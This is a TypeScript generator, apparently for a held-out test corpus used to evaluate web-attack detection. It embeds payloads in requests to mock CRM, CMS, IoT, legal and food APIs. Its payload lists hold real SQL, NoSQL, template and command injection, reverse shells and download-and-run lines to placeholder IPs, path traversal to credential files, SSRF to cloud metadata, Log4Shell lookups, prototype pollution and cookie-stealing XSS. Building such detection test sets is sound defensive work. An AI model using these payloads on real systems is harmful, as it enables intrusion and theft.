        payload: json({ order_id: `ord_${token(10)}`, status: 'delivered', proof: { note: v } }),
      }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'PUT',
      path: '/cms/api/settings/homepage',
      headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN, extra: attackUa(f) }),
      body: json({ layout: json({ rows: [{ type: 'rail', title: 'Politics', query: v }] }) }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/iot/v1/devices/dev_${token(10)}/commands`,
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({ command: 'set_config', args: json({ ntp_server: v, tz: 'Europe/Berlin' }) }),
    }),
    (v, f) => ({
      kind: 'graphql',
      method: 'POST',
      path: '/cms/graphql',
      headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN, extra: attackUa(f) }),
      body: json({
        query:
          'query Stories($section: String!, $q: String) { stories(section: $section, query: $q) { edges { node { id } } } }',
        variables: json({ section: 'politics', q: v }),
      }),
    }),
  ],
  base64: [
    (v, f) => ({
      kind: 'search',
      method: 'GET',
      path: `/crm/v2/contacts?${qs([
        ['page[cursor]', b64(json({ after: v, dir: 'next' }))],
        ['page[size]', '50'],
      ])}`,
      headers: headers('browser', { origin: CRM_ORIGIN, extra: attackUa(f) }),
      body: '',
    }),
    (v, f) => ({
      kind: 'webhook',
      method: 'POST',
      path: '/iot/hooks/pubsub',
      headers: {
        'user-agent': 'APIs-Google; (+https://developers.google.com/webmasters/APIs-Google.html)',
        'content-type': JSON_CT,
        ...attackUa(f),
      },
      body: json({
        message: {
          data: b64(json({ deviceId: `dev_${token(10)}`, event: 'offline', detail: v })),
          messageId: digits(16),
        },
        subscription: 'projects/homenest-prod/subscriptions/device-events-push',
      }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/legal/api/v1/documents/inline',
      headers: headers('tool', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({ filename: 'nda.txt', content_base64: b64(text(v)), contract_type: 'nda' }),
    }),
    (v, f) => ({
      kind: 'graphql',
      method: 'POST',
      path: '/cms/graphql',
      headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN, extra: attackUa(f) }),
      body: json({
        query:
          'query Stories($section: String!, $first: Int, $after: String) { stories(section: $section, first: $first, after: $after) { pageInfo { endCursor } } }',
        variables: { section: 'politics', first: 20, after: b64(text(v)) },
      }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/food/v3/checkout/session',
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({ cart_id: `cart_${token(10)}`, state: b64url(json({ return_to: '/orders', ref: v })) }),
    }),
  ],
  'graphql-variable': [
    (v, f) => ({
      kind: 'graphql',
      method: 'POST',
      path: '/crm/graphql',
      headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN, extra: attackUa(f) }),
      body: json({
        operationName: 'LogActivity',
        query:
          'mutation LogActivity($input: ActivityInput!) {\n  logActivity(input: $input) { activity { id } }\n}',
        variables: { input: { contactId: uuid(), type: 'CALL', summary: v } },
      }),
    }),
    (v, f) => ({
      kind: 'graphql',
      method: 'POST',
      path: '/food/graphql',
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({
        operationName: 'NearbyRestaurants',
        query:
          'query NearbyRestaurants($lat: Float!, $lng: Float!, $filter: RestaurantFilter) { restaurants(near: { lat: $lat, lng: $lng }, filter: $filter) { edges { node { id name } } } }',
        variables: { lat: 52.52, lng: 13.405, filter: { cuisines: ['thai'], query: v } },
      }),
    }),
    (v, f) => ({
      kind: 'graphql',
      method: 'POST',
      path: '/api/graphql',
      headers: headers('tool', { ct: JSON_CT, auth: 'bearer', extra: attackUa(f) }),
      body: json({
        query:
          'mutation AddComment($subjectId: ID!, $body: String!) { addComment(input: { subjectId: $subjectId, body: $body }) { commentEdge { node { id } } } }',
        variables: { subjectId: `I_kwDO${token(14)}`, body: v },
      }),
    }),
    (v, f) => ({
      kind: 'graphql',
      method: 'POST',
      path: '/cms/graphql',
      headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN, extra: attackUa(f) }),
      body: json({
        operationName: 'UpdateCaption',
        query:
          'mutation UpdateCaption($id: ID!, $caption: String!, $credit: String) { updateMedia(id: $id, input: { caption: $caption, credit: $credit }) { media { id } } }',
        variables: { id: `med_${token(10)}`, caption: 'Protesters outside parliament', credit: v },
      }),
    }),
  ],
  'double-encoded': [
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/crm/v2/contacts',
      headers: headers('tool', { ct: JSON_CT, auth: 'apikey', extra: attackUa(f) }),
      body: json({ first_name: 'Anna', last_name: enc2(text(v)), email: 'anna@example.com' }),
    }),
    (v, f) => ({
      kind: 'search',
      method: 'GET',
      path: `/food/v3/search?q=${enc2(text(v))}&sort=-rating`,
      headers: headers('browser', { origin: 'https://www.fooddash.app', extra: attackUa(f) }),
      body: '',
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/cms/api/redirects',
      headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN, extra: attackUa(f) }),
      body: json({ from: '/politics/2026/old-slug', to: enc2(text(v)), status: 301 }),
    }),
    (v, f) => ({
      kind: 'search',
      method: 'GET',
      path: `/legal/api/v1/contracts?filter%5Bcounterparty%5D=${enc2(text(v))}&sort=-updated_at`,
      headers: headers('browser', { origin: LEGAL_ORIGIN, extra: attackUa(f) }),
      body: '',
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'PATCH',
      path: `/iot/v1/devices/dev_${token(10)}`,
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({ name: enc2(text(v)) }),
    }),
  ],
  'query-param': [
    (v, f) => ({
      kind: 'search',
      method: 'GET',
      path: `/crm/v2/contacts?${qs(
        typeof v === 'string'
          ? [
              ['q', v],
              ['sort', '-last_activity_at'],
            ]
          : [...flat('filter[email]', v), ['sort', '-last_activity_at']],
      )}`,
      headers: headers('browser', { origin: CRM_ORIGIN, extra: attackUa(f) }),
      body: '',
    }),
    (v, f) => ({
      kind: 'search',
      method: 'GET',
      path: `/iot/v1/telemetry?${qs(
        typeof v === 'string'
          ? [
              ['device_id', v],
              ['metric', 'temperature_c'],
              ['agg', 'avg'],
            ]
          : [...flat('device_id', v), ['metric', 'temperature_c']],
      )}`,
      headers: headers('mobile', { extra: attackUa(f) }),
      body: '',
    }),
    (v, f) => ({
      kind: 'search',
      method: 'GET',
      path: `/legal/api/v1/contracts?${qs(
        typeof v === 'string'
          ? [
              ['filter[status]', 'executed'],
              ['sort', v],
            ]
          : [...flat('filter', v), ['sort', '-updated_at']],
      )}`,
      headers: headers('browser', { origin: LEGAL_ORIGIN, accept: JSONAPI, extra: attackUa(f) }),
      body: '',
    }),
    (v, f) => ({
      kind: 'search',
      method: 'GET',
      path: `/cms/api/articles?${qs(
        typeof v === 'string'
          ? [
              ['q', v],
              ['status', 'published'],
            ]
          : [...flat('where', v), ['status', 'published']],
      )}`,
      headers: headers('browser', { origin: CMS_ORIGIN, extra: attackUa(f) }),
      body: '',
    }),
    (v, f) => ({
      kind: 'search',
      method: 'GET',
      path: `/food/v3/restaurants/rst_${token(8)}/menu?${qs(
        typeof v === 'string'
          ? [
              ['image', v],
              ['w', '640'],
            ]
          : flat(f === 'prototype-pollution' ? '' : 'filter[name]', v),
      )}`,
      headers: headers('mobile', { extra: attackUa(f) }),
      body: '',
    }),
  ],
  header: [
    (v) => ({
      kind: 'search',
      method: 'GET',
      path: '/food/v3/search?q=ramen&sort=-rating',
      headers: { ...headers('browser', { origin: 'https://www.fooddash.app' }), 'user-agent': text(v) },
      body: '',
    }),
    (v) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/crm/v2/contacts',
      headers: { ...headers('tool', { ct: JSON_CT, auth: 'apikey' }), 'x-forwarded-for': text(v) },
      body: json({ first_name: 'Kwame', last_name: 'Mensah', email: 'kwame@unionfreight.com' }),
    }),
    (v) => ({
      kind: 'search',
      method: 'GET',
      path: '/cms/api/articles?q=union&status=published',
      headers: { ...headers('browser', { origin: CMS_ORIGIN }), referer: text(v) },
      body: '',
    }),
    (v) => ({
      kind: 'ndjson',
      method: 'POST',
      path: '/iot/v1/telemetry:batch',
      headers: { ...headers('device', { ct: 'application/x-ndjson' }), 'x-device-id': text(v) },
      body: `${json({ ts: iso(1), device_id: 'dev_a1', metric: 'temperature_c', value: 21.5 })}\n`,
    }),
    (v) => ({
      kind: 'search',
      method: 'GET',
      path: '/legal/api/v1/contracts?sort=-updated_at',
      headers: { ...headers('tool'), 'x-api-version': text(v), 'x-request-id': uuid() },
      body: '',
    }),
  ],
  cookie: [
    (v) => ({
      kind: 'search',
      method: 'GET',
      path: '/food/v3/me/orders?limit=20',
      headers: {
        ...headers('browser', { origin: 'https://www.fooddash.app', auth: 'none' }),
        cookie: `sid=${token(40, B64URL)}; locale=${typeof v === 'string' ? enc(v) : enc(`j:${json(v)}`)}; _ga=GA1.1.${digits(9)}.${digits(10)}`,
      },
      body: '',
    }),
    (v) => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/crm/v2/contacts/${uuid()}/notes`,
      headers: {
        ...headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN, auth: 'none' }),
        cookie: `sid=${token(40, B64URL)}; prefs=${typeof v === 'string' ? enc(v) : enc(`j:${json(v)}`)}`,
      },
      body: json({ body: 'Called, no answer.', pinned: false }),
    }),
    (v) => ({
      kind: 'search',
      method: 'GET',
      path: '/cms/api/articles?status=draft',
      headers: {
        ...headers('browser', { origin: CMS_ORIGIN, auth: 'none' }),
        cookie: `editor_session=${token(32)}; last_section=${typeof v === 'string' ? v.replace(/;/g, '%3B') : `j:${json(v)}`}`,
      },
      body: '',
    }),
  ],
  form: [
    (v) => ({
      kind: 'form',
      method: 'POST',
      path: '/crm/forms/w2l/8f1c2a',
      headers: headers('browser', { ct: FORM_CT, auth: 'none', origin: 'https://www.nordlicht.de' }),
      body: form(
        typeof v === 'string'
          ? [
              ['first_name', 'Max'],
              ['last_name', 'Muster'],
              ['email', 'max@example.com'],
              ['company', v],
              ['consent', 'on'],
            ]
          : [['first_name', 'Max'], ['email', 'max@example.com'], ...flat('company', v)],
      ),
    }),
    (v, f) => ({
      kind: 'form',
      method: 'POST',
      path: '/food/support/contact',
      headers: headers('browser', { ct: FORM_CT, origin: 'https://www.fooddash.app' }),
      body: form(
        typeof v === 'string'
          ? [
              ['name', 'A B'],
              ['email', 'ab@gmail.com'],
              ['topic', 'other'],
              ['message', v],
            ]
          : [
              ['name', 'A B'],
              ['email', 'ab@gmail.com'],
              ...flat(f === 'prototype-pollution' ? '' : 'order', v),
            ],
      ),
    }),
    (v) => ({
      kind: 'form',
      method: 'POST',
      path: '/food/v3/auth/login',
      headers: headers('browser', { ct: FORM_CT, origin: 'https://www.fooddash.app', auth: 'none' }),
      body: form(
        typeof v === 'string'
          ? [
              ['username', 'admin'],
              ['password', v],
            ]
          : [['username', 'admin'], ...flat('password', v)],
      ),
    }),
    (v) => ({
      kind: 'form',
      method: 'POST',
      path: '/legal/intake/request',
      headers: headers('browser', { ct: FORM_CT, origin: LEGAL_ORIGIN }),
      body: form(
        typeof v === 'string'
          ? [
              ['requester', 'Marek Dvořák'],
              ['type', 'NDA'],
              ['details', v],
              ['urgency', 'high'],
            ]
          : [['requester', 'Marek Dvořák'], ...flat('details', v)],
      ),
    }),
    (v, f) => ({
      kind: 'form',
      method: 'POST',
      path: '/iot/v1/devices/provision',
      headers: headers('device', { ct: FORM_CT, auth: 'none' }),
      body: form(
        typeof v === 'string'
          ? [
              ['serial', 'HN-AB12-004411'],
              ['fw', '2.4.1'],
              ['name', v],
            ]
          : [['serial', 'HN-AB12-004411'], ...flat(f === 'prototype-pollution' ? '' : 'claim_code', v)],
      ),
    }),
  ],
  multipart: [
    (v) => {
      const m = multipart([
        {
          name: 'image',
          filename: 'chart.svg',
          type: 'image/svg+xml',
          value: '<svg xmlns="http://www.w3.org/2000/svg"/>',
        },
        { name: 'caption', value: text(v) },
        { name: 'credit', value: 'Reuters' },
      ]);
      return {
        kind: 'multipart',
        method: 'POST',
        path: '/cms/api/media',
        headers: headers('browser', { ct: m.ct, origin: CMS_ORIGIN }),
        body: m.body,
      };
    },
    (v) => {
      const m = multipart([
        {
          name: 'file',
          filename: 'contacts.csv',
          type: 'text/csv',
          value: 'first_name,last_name,email\r\nAnna,Berg,anna@example.com',
        },
        {
          name: 'mapping',
          value: typeof v === 'string' ? json({ first_name: 'first_name', last_name: v }) : json(v),
        },
        { name: 'dedupe', value: 'email' },
      ]);
      return {
        kind: 'multipart',
        method: 'POST',
        path: '/crm/v2/imports',
        headers: headers('browser', { ct: m.ct, origin: CRM_ORIGIN }),
        body: m.body,
      };
    },
    (v) => {
      const m = multipart([
        { name: 'document', filename: 'nda.txt', type: 'text/plain', value: 'Mutual NDA' },
        { name: 'counterparty', value: text(v) },
        { name: 'contract_type', value: 'nda' },
      ]);
      return {
        kind: 'multipart',
        method: 'POST',
        path: '/legal/api/v1/documents',
        headers: headers('browser', { ct: m.ct, origin: LEGAL_ORIGIN }),
        body: m.body,
      };
    },
  ],
};

/** Path-traversal via upload filenames and prototype pollution via JSON-Patch / dotted paths need own carriers. */
const FILENAME_CARRIERS: readonly Carrier[] = [
  (v) => {
    const m = multipart([
      { name: 'document', filename: text(v), type: 'text/plain', value: 'hello' },
      { name: 'contract_type', value: 'nda' },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/legal/api/v1/documents',
      headers: headers('browser', { ct: m.ct, origin: LEGAL_ORIGIN }),
      body: m.body,
    };
  },
  (v) => {
    const m = multipart([
      { name: 'menu', filename: text(v), type: 'text/csv', value: 'name,price\nMargherita,10.90' },
      { name: 'replace_existing', value: 'false' },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: `/food/partner/v1/restaurants/rst_${token(8)}/menu/import`,
      headers: headers('browser', { ct: m.ct, origin: 'https://partners.fooddash.app' }),
      body: m.body,
    };
  },
];
const PATH_STRING_CARRIERS: readonly ((p: string) => Req)[] = [
  (p) => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/legal/api/v1/contracts/ctr_${token(12)}`,
    headers: headers('browser', { ct: JPATCH, origin: LEGAL_ORIGIN }),
    body: json([{ op: 'add', path: `/${p.replace(/\./g, '/')}`, value: true }]),
  }),
  (p) => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/crm/v2/deals/${uuid()}`,
    headers: headers('tool', { ct: JPATCH, auth: 'apikey' }),
    body: json([
      { op: 'replace', path: '/stage', value: 'negotiation' },
      { op: 'add', path: `/${p.replace(/\./g, '/')}`, value: 'admin' },
    ]),
  }),
  (p) => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/iot/v1/devices/dev_${token(10)}/settings`,
    headers: headers('mobile', { ct: JSON_CT }),
    body: json({ path: p, value: true }),
  }),
  (p) => ({
    kind: 'rest-write',
    method: 'PATCH',
    path: '/food/v3/me/preferences',
    headers: headers('mobile', { ct: JSON_CT }),
    body: json({ set: { [p]: true } }),
  }),
];

const FAMILY_PAYLOADS: Record<string, readonly Payload[]> = {
  sql: [
    "' OR '1'='1",
    "1' AND SLEEP(5)-- -",
    '1 UNION ALL SELECT NULL,NULL,CONCAT(0x7176786a71,IFNULL(CAST(user() AS NCHAR),0x20),0x7178627171)-- -',
    "'; DROP TABLE users;--",
    '1) AND 8146=8146 AND (7799=7799',
    "1' AND (SELECT 4312 FROM (SELECT(SLEEP(5)))xYzA)-- kQmB",
    "1;WAITFOR DELAY '0:0:5'--",
    "' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))-- -",
    "admin'--",
    "1' ORDER BY 10-- -",
    "' UNION SELECT username, password FROM users--",
    '1 AND 1=CAST((SELECT current_user) AS int)',
    "'||(SELECT pg_sleep(5))||'",
    "1' RLIKE (SELECT (CASE WHEN (4346=4346) THEN 1 ELSE 0x28 END))-- ",
    "\"; EXEC xp_cmdshell('whoami');--",
    "') OR ('a'='a",
    '1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71,0x78))s), 8446744073709551610, 8446744073709551610)))',
    "' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
  ],
  nosql: [
    obj('{"$ne":null}'),
    obj('{"$gt":""}'),
    obj('{"$regex":"^adm","$options":"i"}'),
    obj('{"$where":"sleep(5000) || true"}'),
    obj('{"$where":"this.role == \'admin\'"}'),
    obj('{"$nin":[]}'),
    obj('{"$exists":true}'),
    obj('{"$in":["admin","root","superuser"]}'),
    obj('{"$expr":{"$eq":[1,1]}}'),
    obj('{"$function":{"body":"function(){ sleep(5000); return true; }","args":[],"lang":"js"}}'),
    obj('{"$or":[{"role":"admin"},{"role":{"$ne":"x"}}]}'),
    obj('{"$regex":".*"}'),
    "'; return true; var dummy='",
    "admin' || '1'=='1",
    '{"$gt": ""}',
  ],
  template: [
    '{{7*7}}',
    '${7*7}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '<%= 7*7 %>',
    '#{7*7}',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '{{config.items()}}',
    "{% import os %}{{ os.popen('id').read() }}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "*{T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
    '[[${7*7}]]',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{/with}}{{/with}}{{/with}}',
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('whoami')\")() }}",
    '@(1+2)',
    '${{<%[%\'"}}%\\.',
  ],
  command: [
    '; cat /etc/passwd',
    '| id',
    '$(curl http://cq4x9b.oast.fun/$(whoami))',
    '`nslookup a8f3k2.burpcollaborator.net`',
    '&& ping -c 10 127.0.0.1',
    ';wget http://203.0.113.7/x.sh -O- | sh',
    '|| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
    '\nid\n',
    '127.0.0.1; nc -e /bin/sh 198.51.100.3 4444',
    '$(sleep 5)',
    ';bash -i >& /dev/tcp/198.51.100.3/4444 0>&1',
    '| type C:\\Windows\\win.ini',
    'a;curl${IFS}http://203.0.113.7/s|sh',
    '& whoami &',
    ';python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.3",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    '`cat /etc/shadow`',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '/var/www/html/../../../etc/shadow',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    '../../../../proc/self/environ',
    '/..;/..;/WEB-INF/web.xml',
    '../../../.env',
    '../../../../root/.ssh/id_rsa',
    'file:///etc/passwd',
    '..%5c..%5c..%5cboot.ini',
    '/static/../../../../../../etc/hosts',
    '....\\\\....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://127.0.0.1:6379/',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'http://[::1]:8080/admin',
    'http://0x7f000001/',
    'http://2130706433/',
    'http://localhost:2375/containers/json',
    'dict://127.0.0.1:11211/stats',
    'http://169.254.169.254.nip.io/latest/meta-data/',
    'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
    'http://100.100.100.200/latest/meta-data/',
    'http://169.254.170.2/v2/credentials',
    'http://127.1:9200/_cat/indices',
    'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
    'http://0177.0.0.1/server-status',
    'http://instance-data/latest/user-data',
  ],
  'prototype-pollution': [
    obj('{"__proto__":{"isAdmin":true}}'),
    obj('{"constructor":{"prototype":{"isAdmin":true}}}'),
    obj('{"__proto__":{"role":"admin","verified":true}}'),
    obj(
      '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
    ),
    obj(
      '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
    ),
    obj('{"__proto__":{"polluted":"yes"}}'),
    obj('{"constructor":{"prototype":{"allowedHosts":["*"]}}}'),
    obj('{"__proto__":{"json spaces":10}}'),
    obj('{"__proto__":{"status":555}}'),
    obj('{"__proto__":{"exposedHeaders":["x-polluted"]}}'),
    obj(
      '{"__proto__":{"sourceURL":"\\u000areturn process.mainModule.require(\'child_process\').execSync(\'id\')//"}}',
    ),
    obj('{"constructor":{"prototype":{"admin":1}},"name":"x"}'),
  ],
  log4shell: [
    '${jndi:ldap://cq4x9b.oast.fun/a}',
    '${jndi:${lower:l}${lower:d}ap://log4j.203.0.113.7.nip.io:1389/Exploit}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.3:1099/obj}',
    '${jndi:dns://x9k2.dnslog.cn}',
    '${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//203.0.113.7/a}',
    '${jndi:ldap://127.0.0.1#evil.example:1389/a}',
    '${${lower:jndi}:${lower:rmi}://198.51.100.3/poc}',
    '${jndi:ldaps://a8f3k2.burpcollaborator.net/x}',
    '${${upper:j}ndi:ldap://203.0.113.7/o}',
    '${jndi:iiop://198.51.100.3:1050/x}',
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.7/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.7/a}",
    '${jndi:ldap://${env:USER}.${sys:java.version}.cq4x9b.oast.fun/a}',
  ],
  xss: [
    '<script>alert(document.domain)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    'javascript:alert(1)',
    "\"><script>fetch('//cq4x9b.oast.fun?c='+document.cookie)</script>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<details open ontoggle=alert(1)>',
    '<a href="jAvAsCrIpT:alert(1)">click</a>',
    '<body onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    "'-alert(1)-'",
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<input autofocus onfocus=alert(1)>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  ],
};

const ALL_TECHNIQUES = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
] as const;
const FAMILY_PLAN: readonly (readonly [string, number, readonly string[]])[] = [
  ['sql', 36, ALL_TECHNIQUES],
  [
    'nosql',
    33,
    [
      'plain',
      'nested',
      'key',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'query-param',
      'form',
      'cookie',
    ],
  ],
  ['template', 33, ALL_TECHNIQUES],
  ['command', 33, ALL_TECHNIQUES],
  [
    'path-traversal',
    33,
    [
      'plain',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'double-encoded',
      'query-param',
      'form',
      'multipart',
      'header',
    ],
  ],
  [
    'ssrf',
    33,
    [
      'plain',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'double-encoded',
      'query-param',
      'form',
      'multipart',
      'header',
    ],
  ],
  [
    'prototype-pollution',
    33,
    [
      'key',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'query-param',
      'form',
      'cookie',
      'multipart',
      'plain',
      'path-string',
    ],
  ],
  ['log4shell', 33, ALL_TECHNIQUES],
  ['xss', 33, ALL_TECHNIQUES],
];
const PROTO_PATHS = [
  '__proto__.isAdmin',
  'constructor.prototype.isAdmin',
  '__proto__.role',
  'constructor.prototype.polluted',
];

interface Attack extends Req {
  readonly family: string;
  readonly technique: string;
}
const attackReqs: Attack[] = [];
for (const [family, count, techniques] of FAMILY_PLAN) {
  const payloads = FAMILY_PAYLOADS[family] as readonly Payload[];
  for (let i = 0; i < count; i++) {
    const technique = techniques[i % techniques.length] as string;
    const payload = payloads[(i * 7 + Math.floor(i / payloads.length)) % payloads.length] as Payload;
    let r: Req;
    if (technique === 'path-string') r = pick(PATH_STRING_CARRIERS)(pick(PROTO_PATHS));
    else if (technique === 'multipart' && family === 'path-traversal')
      r = pick(FILENAME_CARRIERS)(payload, family);
    else if (technique === 'plain' && family === 'prototype-pollution') {
      // Top-level pollution keys in an ordinary write body.
      const body = `{"first_name":"Test","email":"t@example.com",${json(payload).slice(1)}`;
      r = {
        kind: 'rest-write',
        method: 'PATCH',
        path: `/crm/v2/contacts/${uuid()}`,
        headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN }),
        body,
      };
    } else r = pick(CARRIERS[technique] as readonly Carrier[])(payload, family);
    attackReqs.push({ ...r, family, technique });
  }
}

/* ------------------------------------------------------------------------------------------------------
 * Output
 * ---------------------------------------------------------------------------------------------------- */

/** The clean held-out requests (ids `h6c1…`). */
export const CLEAN_HELDOUT6: readonly CorpusRequest[] = cleanReqs.map((r, i) => ({
  id: `h6c${i + 1}`,
  kind: r.kind,
  method: r.method,
  path: r.path,
  headers: r.headers,
  body: r.body,
}));

/** The attack held-out requests (ids `h6a1…`). */
export const ATTACKS_HELDOUT6: readonly CorpusRequest[] = attackReqs.map((r, i) => ({
  id: `h6a${i + 1}`,
  kind: r.kind,
  family: r.family,
  technique: r.technique,
  method: r.method,
  path: r.path,
  headers: r.headers,
  body: r.body,
}));

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = import.meta.dirname;
  writeFileSync(join(dir, 'clean-heldout6.json'), `${JSON.stringify(CLEAN_HELDOUT6, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout6.json'), `${JSON.stringify(ATTACKS_HELDOUT6, null, 2)}\n`);
  process.stdout.write(
    `wrote ${CLEAN_HELDOUT6.length} clean and ${ATTACKS_HELDOUT6.length} attack requests\n`,
  );
}
